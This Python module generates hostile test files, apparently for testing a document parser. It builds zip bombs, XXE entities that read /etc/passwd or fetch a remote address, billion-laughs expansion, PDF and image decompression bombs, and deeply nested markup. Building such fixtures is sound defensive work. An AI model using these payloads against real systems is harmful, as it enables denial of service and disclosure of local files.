"""Makes files that try to harm whoever reads them, one function for each way to try."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
ODT_TYPE = b"application/vnd.oasis.opendocument.text"
Files = Iterator[tuple[str, bytes]]


def docx_of(xml: bytes, more: dict[str, bytes] | None = None) -> bytes:
    return packed({"word/document.xml": xml, **(more or {})})


def odt_of(xml: bytes, more: dict[str, bytes] | None = None) -> bytes:
    return packed({"mimetype": ODT_TYPE, "content.xml": xml, **(more or {})})


def packed(members: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def docx_text(text: str) -> bytes:
    return f"<w:document {W}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>".encode()


def odt_text(text: str) -> bytes:
    inside = f"<office:body><office:text><text:p>{text}</text:p></office:text></office:body>"
    return f"<office:document-content {OFFICE}>{inside}</office:document-content>".encode()


def _blank(name: str, megabytes: int) -> bytes:
    """A zip with one member of that many megabytes of spaces."""
    data = _endless(b" ", megabytes)[2:-4]  # a zip has neither the head nor the check sum of zlib
    sizes = struct.pack("<IIIHH", 0, len(data), megabytes * 1_000_000, len(name), 0)
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + name.encode()
    entry = b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0) + sizes + struct.pack("<HHHII", 0, 0, 0, 0, 0)
    start = len(local) + len(data)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry) + len(name), start, 0)
    return local + data + entry + name.encode() + end


def zip_bombs() -> Files:
    yield "one-part.docx", _blank("word/document.xml", 2500)
    inner = _blank("0", 300)
    yield "nested.docx", packed({"word/document.xml": docx_text("x"), **{f"{n}.zip": inner for n in range(20)}})
    many = {f"word/header{n}.xml": docx_text("x") for n in range(6000)}
    yield "many-parts.docx", docx_of(docx_text("x"), many)
    headers = {f"word/header{n}.xml": docx_text("x") + b" " * 2_000_000 for n in range(32)}
    yield "many-large-parts.docx", docx_of(docx_text("x"), headers)
    yield "overlapping.docx", _overlapping()
    yield "lying-size.docx", _lying(docx_of(docx_text("x") + b" " * 70_000_000))
    yield "large-type.odt", packed({"mimetype": b"text" * 16_000_000, "content.xml": b"<a/>"})
    yield "spaces.odt", odt_of(odt_text('<text:s text:c="99999999"/>' * 100_000))
    yield "bad-count.odt", odt_of(odt_text('<text:s text:c="many"/>Ada'))


def _overlapping() -> bytes:
    """A directory whose entries all point at the same bytes, so that each is unpacked again."""
    kernel = docx_of(docx_text("x") + b" " * 3_000_000)
    end = kernel.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", kernel[end + 16 : end + 20])[0]
    entry = kernel[start:end]
    named = [entry.replace(b"word/document.xml", b"word/header%03d.xml" % n) for n in range(100, 900)]
    directory = entry + b"".join(named)
    return kernel[:start] + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 801, 801, len(directory), start, 0)


def _lying(content: bytes) -> bytes:
    """The directory says that the parts are ten bytes long."""
    changed = bytearray(content)
    at = changed.rindex(b"PK\x01\x02")
    changed[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(changed)


def xml_attacks(address: str) -> Files:
    """Entities that grow, and entities that fetch a file or ``address``, in all formats made of markup."""
    grow = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    laughs = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a0 "ha">{grow}]>'.encode()
    for kind, target in (("file", "file:///etc/passwd"), ("web", address), ("parameter", address)):
        percent = "% " if kind == "parameter" else ""
        use = "%x;" if percent else ""
        fetch = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY {percent}x SYSTEM "{target}">{use}]>'.encode()
        yield f"fetch-{kind}.docx", docx_of(fetch + docx_text("&x;"))
        yield f"fetch-{kind}.odt", odt_of(fetch + odt_text("&x;"))
        yield f"fetch-{kind}-styles.docx", docx_of(docx_text("Ada"), {"word/styles.xml": fetch + b"<r>&x;</r>"})
        wide = (fetch + docx_text("&x;")).decode().encode("utf-16")
        yield f"fetch-{kind}-utf16.docx", docx_of(wide)
        yield f"fetch-{kind}.html", fetch + b"<html><body><p>Ada &x;</p></body></html>"
        yield f"fetch-{kind}-svg.html", b"<html><body><p>Ada</p><svg>" + fetch + b"<text>&x;</text></svg></body></html>"
    yield "laughs.docx", docx_of(laughs + docx_text("&a11;"))
    yield "laughs.odt", odt_of(laughs + odt_text("&a11;"))
    yield "laughs.html", laughs + b"<html><body>&a11;</body></html>"
    quadratic = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{"h" * 100_000}">]>'.encode()
    yield "quadratic.docx", docx_of(quadratic + docx_text("&a;" * 20_000))
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}" parse="text"/>'
    yield "include.docx", docx_of(docx_text(f"</w:t></w:r></w:p>{include}<w:p><w:r><w:t>Ada"))
    yield (
        "style-sheet.odt",
        b"".join([odt_of(f'<?xml-stylesheet type="text/xsl" href="{address}"?>'.encode() + odt_text("Ada"))]),
    )
    picture = f'<html><head><link rel="stylesheet" href="{address}"></head><body><img src="{address}"><p>Ada</p>'
    yield "remote.html", f'{picture}<iframe src="{address}"></iframe></body></html>'.encode()


def deep_markup() -> Files:
    for depth in (300, 5_000, 400_000):
        yield f"deep-{depth}.html", b"<div>" * depth + b"Ada"
        yield f"deep-{depth}.docx", docx_of(f"<w:document {W}>".encode() + b"<w:tbl><w:tr><w:tc>" * depth)
        closed = f"<w:document {W}>{'<w:sdt>' * depth}{docx_text('x').decode()}{'</w:sdt>' * depth}</w:document>"
        yield f"deep-closed-{depth}.docx", docx_of(closed.encode())
        yield f"deep-{depth}.odt", odt_of(odt_text("<text:span>" * depth + "Ada" + "</text:span>" * depth))
        yield f"deep-{depth}.rtf", b"{\\rtf1 " + b"{" * depth + b"Ada" + b"}" * depth + b"}"
    nested = "<table><tr><td>" * 90
    yield "tables.html", f"<html><body>{nested}Ada".encode()
    tables = "<w:tbl><w:tr><w:tc>" * 80 + "<w:p><w:r><w:t>Ada</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 80
    yield "tables.docx", docx_of(f"<w:document {W}><w:body>{tables}</w:body></w:document>".encode())


def long_markup() -> Files:
    yield "one-tag.html", b"<html><p " + b"a" * 9_900_000 + b">Ada</p>"
    yield "one-value.html", b"<html><p style='" + b"display:" * 1_200_000 + b"'>Ada</p>"
    yield "many-values.html", b"<html><p " + b"".join(b"a%d=1 " % n for n in range(500_000)) + b">Ada</p>"
    yield "many-tags.html", b"<html>" + b"<b>" * 3_000_000
    yield "many-empty.html", b"<html>" + b"<p><i></i>" * 900_000 + b"Ada"
    yield "many-links.html", b"<html>" + b"<a href=http://a.example>a</a>" * 300_000
    yield "one-link.html", b"<html><p>Ada <a href=http://a.example/" + b"a" * 9_000_000 + b">a</a>"
    yield "comment.html", b"<html><p>Ada</p><!--" + b"-" * 9_900_000
    yield "runs.docx", docx_of(docx_text("a</w:t></w:r><w:r><w:t>" * 500_000))
    yield (
        "boxes.docx",
        docx_of(
            docx_text("</w:t><w:txbxContent><w:p><w:r><w:t>a" * 100 + "</w:t></w:r></w:p></w:txbxContent><w:t>" * 100)
        ),
    )
    yield "paragraphs.odt", odt_of(odt_text("</text:p><text:p>" * 1_500_000))
    yield (
        "styles.docx",
        docx_of(docx_text("Ada"), {"word/styles.xml": f"<w:styles {W}>{'<w:style/>' * 900_000}</w:styles>".encode()}),
    )
    yield "digits.docx", docx_of(docx_text(f"Ada</w:t></w:r><w:r><w:rPr><w:sz w:val='{'9' * 100_000}'/></w:rPr><w:t>b"))


def rtfs() -> Files:
    yield "binary.rtf", b"{\\rtf1 Ada\\bin2000000000 " + b"\x00{}\\" * 10_000 + b"}"
    yield "binary-negative.rtf", b"{\\rtf1 Ada\\bin-5 }"
    yield "numbers.rtf", b"{\\rtf1 \\fs9999999999\\li-9999999999\\uc9999999999\\u9999999999 Ada\\u-99999 }"
    yield "page.rtf", b"{\\rtf1\\ansi\\ansicpg99999 Ada \\'e9}"
    yield "breaks.rtf", b"{\\rtf1 " + b"\\par " * 1_900_000 + b"Ada}"
    yield "looks.rtf", b"{\\rtf1 " + b"\\b a\\b0 b" * 900_000 + b"}"
    yield "surrogates.rtf", b"{\\rtf1 " + b"\\u55357 ?" * 10_000 + b"Ada}"
    yield "hex.rtf", b"{\\rtf1 " + b"\\'" * 2_000_000 + b"}"


def plain() -> Files:
    yield "zeros.txt", b"\x00" * 5_000_000
    yield "zeros-in-text.txt", b"Ada\x00Example\x00" * 100
    yield "one-line.txt", b"a" * 9_900_000
    yield "words.txt", b"a " * 4_900_000
    yield "lines.txt", b"a\n" * 4_900_000
    yield "empty-lines.txt", b"Ada" + b"\n" * 9_900_000
    yield "tabs.txt", b"Ada" + b"\t" * 9_900_000 + b"b"
    yield "gaps.txt", b"Ada" + b" " * 190_000 + b"b"
    yield "rules.txt", b"=" * 9_900_000 + b"a"
    yield "stars.md", b"# Ada\n" + b"*" * 150_000 + b"a" + b"_" * 20_000
    yield "emphasis.md", b"# Ada\n**a** " + b"**a _b `c " * 10_000
    yield "brackets.md", b"# Ada\n**a** " + b"[" * 150_000
    yield "links.md", b"# Ada\n**a** " + b"[a](http://b" * 12_000
    yield "accents.txt", b"a" + "\u0301".encode() * 190_000
    yield "wide.txt", "Ada".encode("utf-16") + b"\x00\xd8" * 90_000
    yield "spaced.txt", b"a " * 90_000
    yield "commas.txt", b"Ada" + b" ," * 90_000
    yield "bullets.txt", "•".encode() * 100_000 + b"a"


def _pdf(objects: dict[int, bytes], *, root: int = 1, trailer: bytes = b"") -> bytes:
    parts, offsets, size = [b"%PDF-1.7\n"], {}, 9
    for number, body in objects.items():
        offsets[number] = size
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        size += len(parts[-1])
    count = max(objects) + 1
    rows = [b"0000000000 65535 f \n"]
    rows += [b"%010d 00000 %s \n" % (offsets.get(n, 0), b"n" if n in offsets else b"f") for n in range(1, count)]
    parts.append(b"xref\n0 %d\n%s" % (count, b"".join(rows)))
    parts.append(b"trailer <</Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF" % (count, root, trailer, size))
    return b"".join(parts)


def _page_with(
    stream: bytes, *, filters: bytes = b"/FlateDecode", more: bytes = b"", others: dict[int, bytes] | None = None
) -> bytes:
    resources = b"<</Font <</F1 5 0 R>> %s>>" % more
    return _pdf({
        1: b"<</Type /Catalog /Pages 2 0 R>>",
        2: b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources %s>>" % resources,
        4: b"<</Length %d /Filter [%s]>>\nstream\n%s\nendstream" % (len(stream), filters, stream),
        5: b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
        **(others or {}),
    })  # fmt: skip


def _endless(piece: bytes, megabytes: int) -> bytes:
    """A compressed stream of that many megabytes, made without packing them all."""
    block = piece * (1_000_000 // len(piece))
    packer, check = zlib.compressobj(9), 1
    # A full flush forgets what came before, so every block after the first is packed into the same bytes.
    first, again = (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    for _ in range(megabytes):
        check = zlib.adler32(block, check)
    return first + again * (megabytes - 1) + b"\x03\x00" + struct.pack(">I", check)


def _pages(number: int, count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(number))
    pages = {n + 3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>" for n in range(number)}
    tree = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)}
    return _pdf({**tree, **pages})


def pdfs() -> Files:
    yield "30000-pages.pdf", _pages(30_000, 30_000)
    yield "30000-pages-claimed.pdf", _pages(1, 30_000)
    yield "30000-pages-hidden.pdf", _pages(30_000, 1)
    yield "2-billion-pages.pdf", _pages(1, 2_147_483_647)
    text = b"BT /F1 1 Tf 1 0 0 1 50 50 Tm (%s) Tj ET\n"
    line = b"BT /F1 1 Tf 1 0 0 1 5 %d Tm (%s) Tj ET\n"
    yield (
        "million-glyphs.pdf",
        _page_with(zlib.compress(b"".join(line % (n, b"Ada and " * 3000) for n in range(42)), 9)),
    )
    yield "many-glyphs.pdf", _page_with(zlib.compress(b"".join(line % (n, b"Ada and " * 30) for n in range(800)), 9))
    yield "million-words.pdf", _page_with(_endless(text % b"Ada", 6))
    yield "endless-text.pdf", _page_with(_endless(text % b"Ada", 600))
    yield "endless-lines.pdf", _page_with(_endless(b"0 0 m 9 9 l S\n", 300))
    yield "endless-save.pdf", _page_with(_endless(b"q ", 200))
    twice = zlib.compress(_endless(text % b"Ada", 800), 9)
    yield "packed-twice.pdf", _page_with(twice, filters=b"/FlateDecode /FlateDecode")
    yield "many-filters.pdf", _page_with(b"x", filters=b"/FlateDecode " * 100_000)
    shape = (
        b"<</Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 11>>\nstream\n/X Do /X Do\nendstream"
    )
    yield "form-in-itself.pdf", _page_with(zlib.compress(b"/X Do"), more=b"/XObject <</X 6 0 R>>", others={6: shape})
    yield "form-bomb.pdf", _form_bomb()
    yield "deep-array.pdf", _page_with(zlib.compress(b"[" * 2_000_000))
    deep = {1: b"<</Type/Catalog/Pages 2 0 R/X %s>>" % (b"[" * 500_000), 2: b"<</Type/Pages/Kids[]/Count 0>>"}
    yield "deep-object.pdf", _pdf(deep)
    yield (
        "tree-of-itself.pdf",
        _pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"}),
    )
    yield "object-of-itself.pdf", _pdf({1: b"1 0 R"})
    length = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Length 2 0 R>>\nstream\nx\nendstream"}
    yield "length-of-itself.pdf", _pdf(length)
    yield "large-table.pdf", _page_with(b"").replace(b"/Size 6", b"/Size 2147483647").replace(b"0 6\n", b"0 99999999\n")
    yield "table-of-itself.pdf", _pages(1, 1).replace(b"/Root", b"/Prev 9 /XRefStm 9 /Root")
    yield "large-page.pdf", _page_with(zlib.compress(text % b"Ada")).replace(b"595 842", b"1e30 1e30")
    yield "no-page.pdf", _page_with(zlib.compress(text % b"Ada")).replace(b"595 842", b"0 0")
    yield "large-font.pdf", _page_with(zlib.compress(b"BT /F1 1e38 Tf 1e38 0 0 1e38 1e38 50 Tm (Ada) Tj ET"))
    yield "far-words.pdf", _page_with(zlib.compress(b"BT /F1 9 Tf 1 0 0 1 1e37 -1e37 Tm (Ada) Tj ET"))
    yield "many-links.pdf", _many_links(20_000)
    yield "large-picture.pdf", _picture_page()
    yield "nothing-but-head.pdf", b"%PDF-1.7\n" + random.Random(1).randbytes(100_000)


def _form_bomb() -> bytes:
    """Forms that each draw the next ten times."""
    others = {}
    for n in range(6, 16):
        inner = b"/Resources<</XObject<</X %d 0 R>>/Font<</F1 5 0 R>>>>" % (n + 1)
        draw = b"/X Do " * 10 if n < 15 else b"BT /F1 9 Tf (Ada) Tj ET"
        others[n] = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]%s/Length %d>>\nstream\n%s\nendstream" % (
            inner,
            len(draw),
            draw,
        )
    return _page_with(zlib.compress(b"/X Do"), more=b"/XObject <</X 6 0 R>>", others=others)


def _many_links(number: int) -> bytes:
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://a.example)>>>>"
    page = _page_with(zlib.compress(b"BT /F1 9 Tf 5 5 Td (Ada) Tj ET"))
    return page.replace(b"/Contents 4", b"/Annots[%s]/Contents 4" % (link * number))


def _picture_page() -> bytes:
    raw = _endless(b"\x00" * 1000, 400)
    head = b"<</Type/XObject/Subtype/Image/Width 20000/Height 20000/ColorSpace/DeviceGray/BitsPerComponent 8"
    image = b"%s/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (head, len(raw), raw)
    draw = zlib.compress(b"q 595 0 0 842 0 0 cm /X Do Q")
    return _page_with(draw, more=b"/XObject <</X 6 0 R>>", others={6: image})


def pictures() -> Files:
    for bits, kind, megabytes in ((1, 0, 50), (8, 2, 1200)):
        raw = _endless(b"\x00" * 1000, megabytes + 1)
        yield f"large-{bits}.png", _png(20_000, 20_000, bits, kind, raw)
    yield "endless.png", _png(100, 100, 8, 2, _endless(b"\x00" * 1000, 2000))
    yield "claimed.png", _png(2_147_483_647, 2_147_483_647, 8, 6, zlib.compress(b"\x00" * 100))
    yield "large.jpg", _jpeg(20_000, 20_000)
    yield "claimed.jpg", _jpeg(65_535, 65_535)
    yield "large.tiff", _tiff(20_000, 20_000, _endless(b"\x00" * 1000, 400))
    yield "claimed.tiff", _tiff(2_000_000_000, 2_000_000_000, zlib.compress(b"\x00"))


def _png(width: int, height: int, bits: int, kind: int, packed_rows: bytes) -> bytes:
    def part(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, bits, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", packed_rows) + part(b"IEND", b"")


def _jpeg(width: int, height: int) -> bytes:
    """The parts that say the size, whole tables, and hardly a pixel: decoders make room for all of it first."""
    sizes = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    quantities = b"\xff\xdb\x00\x43\x00" + b"\x01" * 64
    codes = b"".join(b"\xff\xc4\x00\x14" + kind + b"\x01" + b"\x00" * 15 + b"\x00" for kind in (b"\x00", b"\x10"))
    return (
        b"\xff\xd8"
        + quantities
        + sizes
        + codes
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
        + b"\x00" * 1000
        + b"\xff\xd9"
    )


def _tiff(width: int, height: int, rows: bytes) -> bytes:
    tags = [
        (256, width),
        (257, height),
        (258, 8),
        (259, 8),
        (262, 1),
        (273, 8),
        (277, 1),
        (278, height),
        (279, len(rows)),
    ]
    directory = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\x00" + struct.pack("<I", 8 + len(rows)) + rows + struct.pack("<H", len(tags)) + directory + b"\x00" * 4


def random_bytes() -> Files:
    rng = random.Random(7)
    for ending in ("pdf", "docx", "odt", "rtf", "html", "txt", "md", "doc", "png", "jpg", "tiff", "zip", "exe"):
        yield f"random.{ending}", rng.randbytes(20_000)
    for start in (
        b"%PDF-1.7\n",
        b"PK\x03\x04",
        b"{\\rtf1 ",
        b"<html>",
        b"\xff\xfe",
        b"\x89PNG\r\n\x1a\n",
        b"\xff\xd8\xff\xe0",
        b"II*\x00",
    ):
        yield f"random-after-{start[:4].hex()}", start + rng.randbytes(20_000)


MAKERS: dict[str, Callable[[], Files]] = {
    "zip bombs": zip_bombs, "deep markup": deep_markup, "long markup": long_markup, "rtf": rtfs, "plain text": plain,
    "pdf": pdfs, "pictures": pictures, "random bytes": random_bytes,
}  # fmt: skip
